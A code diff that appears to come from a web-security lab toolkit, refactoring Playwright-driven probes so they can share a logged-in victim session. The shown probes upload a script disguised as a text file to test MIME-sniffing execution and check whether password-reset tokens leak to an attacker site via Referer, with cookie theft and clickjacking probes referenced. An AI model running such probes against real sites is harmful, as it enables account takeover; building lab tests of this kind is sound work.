@@ -77,7 +77,7 @@ SIMULATION = "SIMULATION (no Chromium: the standards' algorithms, no JavaScript 
 _SETTLE_MS = 5_000
 #: How long a page must have had no request in flight to count as settled (Playwright's
 #: ``networkidle`` waits 500 ms; every request is tracked here, so a shorter quiet will do).
-_QUIET_S = 0.15
+_QUIET_S = 0.1
 _JS_TYPES = frozenset(
     {"text/javascript", "application/javascript", "application/ecmascript", "text/ecmascript",
      "application/x-javascript", "text/jscript", "module"}
@@ -210,9 +210,22 @@ def _logged_in(browser: Browser, victim_url: str, **context: Any) -> tuple[Brows
 
 
 @contextmanager
+def _page(browser: Browser, session: BrowserContext | None) -> Iterator[Page]:
+    """A watched page: in ``session`` (the page closed afterwards), else in a profile of its
+    own (closed afterwards)."""
+    ctx = session or browser.new_context()
+    page = _watched(ctx.new_page())
+    try:
+        yield page
+    finally:
+        (page if session is not None else ctx).close()
+
+
+@contextmanager
 def victim_session(browser: Browser, victim_url: str) -> Iterator[BrowserContext]:
     """A browser profile where the victim has logged in once, for several probes in a row
-    (``session=`` of :func:`steal_cookie` and :func:`clickjack`); closed at the end."""
+    (``session=`` of :func:`steal_cookie`, :func:`clickjack`, :func:`sniff_upload` and
+    :func:`referer_leak`: each opens pages of its own there); closed at the end."""
     ctx, page = _logged_in(browser, victim_url)
     page.close()
     try:
@@ -519,13 +532,16 @@ def _clickjack(
 
 
 # -- MIME sniffing --------------------------------------------------------------------------
-def sniff_upload(victim_url: str, *, browser: Browser | None = None) -> Probe:
+def sniff_upload(
+    victim_url: str, *, browser: Browser | None = None, session: BrowserContext | None = None
+) -> Probe:
     """Upload a script as ``notes.txt`` (served ``text/plain``), then include it with
-    ``<script src>`` on the app's own search page: does the browser run it?"""
+    ``<script src>`` on the app's own search page: does the browser run it? ``session``: as
+    for :func:`steal_cookie`."""
     nonce = secrets.token_hex(6)
     path = _upload(victim_url, f'window.labkitSniffed = "{nonce}";')
     if browser is not None:
-        return _sniff(browser, victim_url, path, nonce)
+        return _sniff(browser, victim_url, path, nonce, session)
     return browser_or_simulation(
         lambda b: _sniff(b, victim_url, path, nonce),
         lambda: _simulate_sniff(victim_url, path),
@@ -552,17 +568,15 @@ _INCLUDE = """src => new Promise(done => {
 })"""
 
 
-def _sniff(browser: Browser, victim_url: str, path: str, nonce: str) -> Probe:
-    ctx = browser.new_context()
-    try:
-        page = ctx.new_page()
+def _sniff(
+    browser: Browser, victim_url: str, path: str, nonce: str, session: BrowserContext | None = None
+) -> Probe:
+    with _page(browser, session) as page:
         messages = _console(page)
         page.goto(victim_url.rstrip("/") + "/?q=tea")
         # stands in for an injection that got through: an element added to the app's page
         outcome = page.evaluate(_INCLUDE, path)
         ran = page.evaluate("window.labkitSniffed") == nonce
-    finally:
-        ctx.close()
     if ran:
         evidence = f"Chromium ran {path} (text/plain) as a script"
     else:
@@ -571,12 +585,19 @@ def _sniff(browser: Browser, victim_url: str, path: str, nonce: str) -> Probe:
 
 
 # -- Referer leak -----------------------------------------------------------------------------
-def referer_leak(victim_url: str, attacker_url: str, *, browser: Browser | None = None) -> Probe:
+def referer_leak(
+    victim_url: str,
+    attacker_url: str,
+    *,
+    browser: Browser | None = None,
+    session: BrowserContext | None = None,
+) -> Probe:
     """The victim asks for a password reset, opens the mailed link and follows its link to
-    the help centre (the attacker's site): does the reset token arrive in the ``Referer``?"""
+    the help centre (the attacker's site): does the reset token arrive in the ``Referer``?
+    ``session``: as for :func:`steal_cookie`."""
     link = _reset_link(victim_url)
     if browser is not None:
-        return _referer(browser, link, attacker_url)
+        return _referer(browser, link, attacker_url, session)
     return browser_or_simulation(
         lambda b: _referer(b, link, attacker_url),
         lambda: _simulate_referer(link),
@@ -594,10 +615,10 @@ def _token_of(link: str) -> str:
     return parse_qs(urlsplit(link).query).get("token", [""])[0]
 
 
-def _referer(browser: Browser, link: str, attacker_url: str) -> Probe:
-    ctx = browser.new_context()
-    try:
-        page = _watched(ctx.new_page())
+def _referer(
+    browser: Browser, link: str, attacker_url: str, session: BrowserContext | None = None
+) -> Probe:
+    with _page(browser, session) as page:
         page.goto(link)
         help_link = page.query_selector("#help")
         if help_link is None:
@@ -605,8 +626,6 @@ def _referer(browser: Browser, link: str, attacker_url: str) -> Probe:
         with page.expect_navigation():
             help_link.click()
         _settle(page)
-    finally:
-        ctx.close()
     token = _token_of(link)
     referers = [e["value"] for e in loot(attacker_url, "referer")]
     leaked = any(token in r for r in referers)
